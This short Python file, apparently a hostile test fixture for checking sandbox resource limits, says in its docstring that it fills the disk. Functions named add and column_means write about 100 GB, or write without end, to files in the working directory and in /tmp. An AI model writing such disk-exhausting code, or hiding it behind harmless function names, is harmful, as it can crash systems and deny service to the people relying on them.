"""Writes a huge file to fill the disk."""

import os

chunk = b"\0" * (1 << 20)


def add(a, b):
    with open("huge.bin", "wb") as handle:
        for _ in range(100_000):  # 100 GB
            handle.write(chunk)
    return None


def column_means(X):
    with open(os.path.join(os.environ.get("TMPDIR", "/tmp"), "huge2.bin"), "wb") as handle:
        while True:
            handle.write(chunk)


def secret():
    return None


def identity_matrix(n):
    return None
